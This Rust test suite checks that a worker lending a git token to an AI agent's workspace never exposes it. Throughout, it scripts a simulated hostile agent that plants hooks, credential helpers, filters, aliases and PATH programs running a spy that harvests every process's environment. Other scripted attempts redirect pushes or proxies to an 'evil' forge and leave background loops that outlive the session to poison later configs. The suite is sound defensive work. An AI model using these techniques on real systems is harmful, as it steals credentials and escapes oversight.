//! For whoever lends a worker a token: whatever an agent leaves in its clone, its HOME or its PATH,
//! nothing of it is run with the token near, and the work arrives all the same.
//!
//! Every test plants a spy, a program that writes down its environment and that of every process
//! but the workers (nothing protects those from an agent that is root), where a careless worker's
//! git would run it.

use std::fs;
use std::path::PathBuf;
use std::process::Command;

use serde_json::Value;

use crate::support::origin::program;
use crate::support::{Forge, Origin, Receiver, path};

const BRANCH: &str = "descartes/proj-456/8";

/// A project behind a token, and a spy.
struct Scene {
    origin: Origin,
    forge: Forge,
    receiver: Receiver,
    token: String,
}

impl Scene {
    fn new() -> Self {
        let origin = Origin::with(&[("README", "A house.\n"), ("src/main", "roof\n")]);
        // Different for every test, because spies of other tests run at the same time.
        let token = format!("tok_{:?}", origin.path("").as_os_str()).replace(['/', '"', '.'], "x");
        let spy = origin.path("spy");
        let script = format!(
            "{{ tr '\\0' '\\n' < /proc/self/environ; echo \"ran as $0 $*\"
            for process in /proc/[0-9]*; do
                case $(readlink $process/exe) in
                    *descartes-worker) ;;
                    *) tr '\\0' '\\n' < $process/environ ;;
                esac
            done; }} >> {} 2>/dev/null; cat; exit 0",
            origin.path("loot").display()
        );
        program(&spy, &script);
        Self {
            forge: Forge::start(&origin.path(""), Some(&token)),
            receiver: Receiver::start(),
            token,
            origin,
        }
    }

    fn spy(&self) -> PathBuf {
        self.origin.path("spy")
    }

    fn loot(&self) -> String {
        fs::read_to_string(self.origin.path("loot")).unwrap_or_default()
    }

    /// Has an agent do its work and then its mischief; `$SPY` is the spy, `$AT` a directory of the
    /// agent's outside the project. Gives the terminal event.
    #[track_caller]
    fn play(&self, mischief: &str) -> Value {
        let path = format!("{}:{}", self.origin.path("bin").display(), path().display());
        let agent = format!(
            "SPY={}; AT={}; echo done > DONE\n{mischief}\nrm -f $AT/loot; true",
            self.spy().display(),
            self.origin
                .path("tmp")
                .parent()
                .expect("a parent")
                .display()
        );
        let worker = self.origin.worker(&self.receiver);
        let worker = worker
            .env("PATH", path)
            .env("DESCARTES_REPO", self.forge.url());
        let ended = worker
            .env("DESCARTES_GIT_TOKEN", &self.token)
            .agent(&agent)
            .run();
        let story = self.receiver.story();
        assert_eq!(story.len(), 2, "{ended:#?}");
        let loot = self.loot();
        assert!(
            !loot.contains(&self.token),
            "the spy saw the token:\n{loot}"
        );
        self.receiver.only(&story[1])
    }

    /// The same, where the work must arrive and the spy must never run.
    #[track_caller]
    fn harmless(&self, mischief: &str) -> Value {
        let event = self.play(mischief);
        assert_eq!(event["status"], "completed", "{event}");
        assert_eq!(self.loot(), "", "the spy ran");
        assert_eq!(self.origin.show(BRANCH, "DONE"), "done");
        event["result"]["work"].clone()
    }
}

#[test]
fn the_spy_sees_what_there_is_to_see() {
    let scene = Scene::new();
    let status = Command::new(scene.spy())
        .env("HELD", &scene.token)
        .stdin(std::process::Stdio::null())
        .status();
    assert!(status.unwrap().success());
    assert!(scene.loot().contains(&format!("HELD={}", scene.token)));
}

#[test]
fn the_agent_itself_is_not_shown_the_token() {
    let scene = Scene::new();
    let event = scene.play("$SPY < /dev/null; mv $AT/loot $AT/kept");
    assert_eq!(event["status"], "completed");
    let seen = fs::read_to_string(scene.origin.path("kept")).unwrap();
    assert!(
        seen.contains("ran as") && !seen.contains(&scene.token),
        "{seen}"
    );
}

#[test]
fn hooks_do_not_run() {
    Scene::new().harmless(
        "mkdir -p .git/hooks; for hook in pre-commit commit-msg post-commit pre-push post-checkout post-index-change \
         reference-transaction pre-auto-gc fsmonitor-watchman; do cp $SPY .git/hooks/$hook; done
         git config core.hooksPath $PWD/.git/hooks; git config --global core.hooksPath $PWD/.git/hooks",
    );
}

#[test]
fn a_file_system_monitor_does_not_run() {
    Scene::new()
        .harmless("git config core.fsmonitor $SPY; git config --global core.fsmonitor $SPY");
}

#[test]
fn an_ssh_command_does_not_run() {
    let scene = Scene::new();
    let mischief = format!(
        "for where in --local --global; do git config $where core.sshCommand $SPY
         git config $where ssh.variant simple; git config $where url.ssh://evil/.insteadOf {}/; done",
        scene.forge.base()
    );
    scene.harmless(&mischief);
}

#[test]
fn a_credential_helper_is_not_asked() {
    let scene = Scene::new();
    let mischief = format!(
        "for where in --local --global; do git config $where credential.helper \"!$SPY\"
         git config $where credential.{}.helper \"!$SPY\"; done
         printf 'machine 127.0.0.1 login agent password guessed\\n' > $HOME/.netrc",
        scene.forge.base()
    );
    scene.harmless(&mischief);
    let guessed = scene.forge.journal().iter().any(|(_, sent)| {
        // agent:guessed
        sent.as_deref() == Some("Basic YWdlbnQ6Z3Vlc3NlZA==")
    });
    assert!(!guessed);
}

#[test]
fn another_url_instead_is_not_taken() {
    let scene = Scene::new();
    let evil = Forge::start(&scene.origin.path(""), None);
    let mischief = format!(
        "for where in --local --global; do git config $where url.{evil}/.insteadOf {base}/
         git config $where url.{evil}/.pushInsteadOf {base}/; git config $where http.proxy {evil}
         git config $where remote.origin.url {evil}/project.git; done",
        evil = evil.base(),
        base = scene.forge.base()
    );
    scene.harmless(&mischief);
    assert_eq!(evil.journal(), []);
}

#[test]
fn a_program_that_asks_for_passwords_does_not_run() {
    Scene::new()
        .harmless("for where in --local --global; do git config $where core.askPass $SPY; done");
}

#[test]
fn a_diff_of_the_agents_does_not_run() {
    Scene::new().harmless(
        "for where in --local --global; do git config $where diff.external $SPY; git config $where diff.spy.textconv $SPY
         git config $where diff.spy.command $SPY; git config $where core.pager $SPY; git config $where interactive.diffFilter $SPY; done
         echo '* diff=spy' > .gitattributes; mkdir -p .git/info; echo '* diff=spy' > .git/info/attributes; echo changed >> README",
    );
}

#[test]
fn aliases_do_not_run() {
    Scene::new().harmless(
        "for where in --local --global; do for command in init add write-tree commit-tree rev-parse rev-list push diff \
         cat-file merge-base read-tree; do git config $where alias.$command \"!$SPY\"; done; done",
    );
}

#[test]
fn included_configuration_is_not_in_force() {
    Scene::new().harmless(
        "printf '[core]\\n\\tfsmonitor = %s\\n\\tsshCommand = %s\\n\\taskPass = %s\\n[credential]\\n\\thelper = \"!%s\"\\n' \
         $SPY $SPY $SPY $SPY > $AT/evil; git config include.path $AT/evil; git config --global include.path $AT/evil
         git config includeIf.gitdir:/.path $AT/evil
         mkfifo $AT/fifo; printf '[include]\\n\\tpath = %s\\n' $AT/fifo >> .git/config",
    );
}

#[test]
fn attributes_and_filters_change_and_run_nothing() {
    let scene = Scene::new();
    scene.harmless(
        "mkdir -p .git/info $HOME/.config/git; for file in .gitattributes .git/info/attributes $HOME/.config/git/attributes; do
         echo '* filter=spy merge=spy text eol=crlf' > $file; done; echo '*' > $HOME/.config/git/ignore; echo '*' > .git/info/exclude
         for where in --local --global; do git config $where filter.spy.clean $SPY; git config $where filter.spy.process $SPY
         git config $where filter.spy.smudge $SPY; git config $where filter.spy.required true; done; touch README; echo new > new",
    );
    assert_eq!(scene.origin.show(BRANCH, "new"), "new");
}

#[test]
fn objects_from_elsewhere_are_not_taken() {
    let scene = Scene::new();
    let work = scene.harmless(
        "git init -q --bare $AT/else; GIT_DIR=$AT/else git hash-object -w --stdin < /etc/hostname
         echo $AT/else/objects > .git/objects/info/alternates; git add DONE; git commit -qm mine",
    );
    // The repository is not what it was, so its commits do not count; the content does.
    assert_eq!(work["files_changed"], 2);
    assert_eq!(
        scene
            .origin
            .git(&["rev-list", "--count", &format!("main..{BRANCH}")]),
        "1"
    );
}

#[test]
fn objects_behind_links_and_fifos_are_not_taken() {
    for mischief in [
        "mv .git/objects/pack $AT/pack; ln -s $AT/pack .git/objects/pack",
        "mv .git/objects $AT/objects; ln -s $AT/objects .git/objects",
        "mkfifo .git/objects/pack/pack-0000000000000000000000000000000000000000.idx",
        "rm -rf .git/objects/pack/*",
    ] {
        Scene::new().harmless(mischief);
    }
}

#[test]
fn a_repository_that_is_a_link_is_not_followed() {
    Scene::new()
        .harmless("mv .git $AT/moved; ln -s $AT/moved .git; git config core.fsmonitor $SPY");
}

#[test]
fn a_repository_that_is_a_file_is_not_followed() {
    Scene::new().harmless(
        "mv .git $AT/moved; echo \"gitdir: $AT/moved\" > .git; git config core.fsmonitor $SPY; git config core.worktree /",
    );
}

#[test]
fn a_submodule_that_is_looked_into_learns_nothing_and_poisons_nothing() {
    let scene = Scene::new();
    let evil = Forge::start(&scene.origin.path(""), None);
    // git looks for changes in submodules, and runs their filters while it does.
    let event = scene.play(&format!(
        "printf '#!/bin/sh\\nfor made in %s/descartes-*; do [ -e $made/config ] || continue
         touch %s/poisoned; printf \"[http]\\\\n\\\\tproxy = {}\\\\n\" >> $made/config; done; exec %s\\n' \
         $TMPDIR $AT $SPY > $AT/poison; chmod +x $AT/poison
         git init -q sub; cd sub; echo a > a; git add a; git -c user.name=a -c user.email=b commit -qm a
         cd ..; git add sub; git commit -qm linked; cd sub
         git config filter.spy.clean $AT/poison; echo '* filter=spy' > .gitattributes; echo b > a; cd ..",
        evil.base()
    ));
    assert_eq!(event["status"], "completed", "{event}");
    assert!(
        scene.origin.path("poisoned").exists(),
        "the filter did not run, so this shows nothing"
    );
    assert_eq!(evil.journal(), []);
    assert_eq!(scene.origin.show(BRANCH, "DONE"), "done");
    let linked = scene.origin.git(&["ls-tree", BRANCH, "sub"]);
    assert!(linked.starts_with("160000 commit"), "{linked}");
}

#[test]
fn the_agents_index_and_head_are_nothing_to_wait_for() {
    for mischief in [
        "truncate -s 2G .git/index",
        "rm .git/index; mkfifo .git/index",
        "rm .git/HEAD; mkfifo .git/HEAD",
        "rm .git/config; mkfifo .git/config; rm -f .git/packed-refs; mkfifo .git/packed-refs",
        "rm .git/HEAD; ln -s /dev/zero .git/HEAD",
        "echo 'ref: refs/heads/../../../loot' > .git/HEAD",
        "git update-index --assume-unchanged README; git update-index --skip-worktree src/main",
    ] {
        Scene::new().harmless(mischief);
    }
}

#[test]
fn file_names_of_any_kind_arrive() {
    let scene = Scene::new();
    scene.harmless(
        "touch ./--all ./-f './--upload-pack=x' \"$(printf 'new\\nline')\" \"$(printf 'es\\033[31mcape')\" \\
         \"$(printf 'latin\\351')\" ':(top)magic' '*' ' ' 'a\"b' \"a'b\" 'a\\b'",
    );
    let files = scene
        .origin
        .git(&["ls-tree", "-r", "--name-only", "-z", BRANCH]);
    assert_eq!(files.split_terminator('\0').count(), 4 + 12, "{files:?}");
}

#[test]
fn a_workspace_that_became_a_link_is_neither_read_nor_written() {
    for target in ["/", "$AT/other"] {
        let scene = Scene::new();
        let event = scene.play(&format!(
            "mkdir -p $AT/other; cp -r .scud $AT/other; mv $PWD $AT/away; ln -s {target} $AT/workspace"
        ));
        assert_eq!(event["failure"]["reason"], "push_failed", "{event}");
        let message = event["failure"]["message"].as_str().unwrap();
        assert!(
            message.ends_with("is gone, or something else stands in its place"),
            "{message}"
        );
        assert_eq!(scene.origin.branches(), ["main"]);
        let graph = fs::read_to_string(scene.origin.path("other/.scud/tasks/tasks.scg")).unwrap();
        assert!(graph.contains("house | P |"), "{graph}");
    }
}

#[test]
fn links_out_of_the_project_stay_links() {
    let scene = Scene::new();
    scene.harmless(
        "mkdir $AT/out; echo outside > $AT/out/file; ln -s $AT/out dir; ln -s /etc/passwd passwd
         rm -r src; ln -s $AT/out src",
    );
    for (link, target) in [
        ("passwd", "/etc/passwd"),
        ("src", scene.origin.path("out").to_str().unwrap()),
    ] {
        assert_eq!(scene.origin.show(BRANCH, link), target);
        assert!(
            scene
                .origin
                .git(&["ls-tree", BRANCH, link])
                .starts_with("120000")
        );
    }

    let scene = Scene::new();
    let event = scene.play("mv .scud $AT/scud; ln -s $AT/scud .scud");
    assert_eq!(event["status"], "completed");
    let graph = fs::read_to_string(scene.origin.path("scud/tasks/tasks.scg")).unwrap();
    assert!(graph.contains("house | P |"), "{graph}");
}

#[test]
fn programs_that_are_planted_on_the_path_do_not_run() {
    Scene::new().harmless(
        "for name in git ssh sh git-remote-http git-remote-https git-push git-pack-objects git-credential echo printf; do
         cp $SPY $AT/bin/$name; done",
    );
}

#[test]
fn objects_that_are_missing_are_not_fetched_by_the_agents_means() {
    Scene::new().harmless(
        "git config core.repositoryformatversion 1; git config extensions.partialClone evil
         git config remote.evil.promisor true; git config remote.evil.url file://$AT/project.git
         git config remote.evil.uploadpack $SPY; rm -rf .git/objects/pack/*",
    );
}

#[test]
fn replaced_and_grafted_history_is_not_believed() {
    let scene = Scene::new();
    let work = scene.harmless(
        "git add DONE; git commit -qm mine; other=$(git commit-tree -m other HEAD^{tree}); git replace HEAD $other
         mkdir -p .git/info; echo \"$other\" > .git/info/grafts; git commit-graph write --reachable; true",
    );
    assert_eq!(
        scene
            .origin
            .git(&["rev-list", "--count", &format!("main..{BRANCH}")]),
        "2"
    );
    assert_eq!(work["files_changed"], 2);
}

#[test]
fn what_stays_behind_cannot_poison_what_is_made_later() {
    let scene = Scene::new();
    let evil = Forge::start(&scene.origin.path(""), None);
    scene.harmless(&format!(
        "cat > $AT/poison <<'END'
         trap '' TERM HUP; while :; do for made in $TMPDIR/descartes-*/config; do
         [ -e $made ] && printf '[http]\\n\\tproxy = {}\\n' >> $made; done; done\nEND
         setsid sh $AT/poison > /dev/null 2>&1 & (setsid setsid sh $AT/poison > /dev/null 2>&1 &) &",
        evil.base()
    ));
    assert_eq!(evil.journal(), []);
}
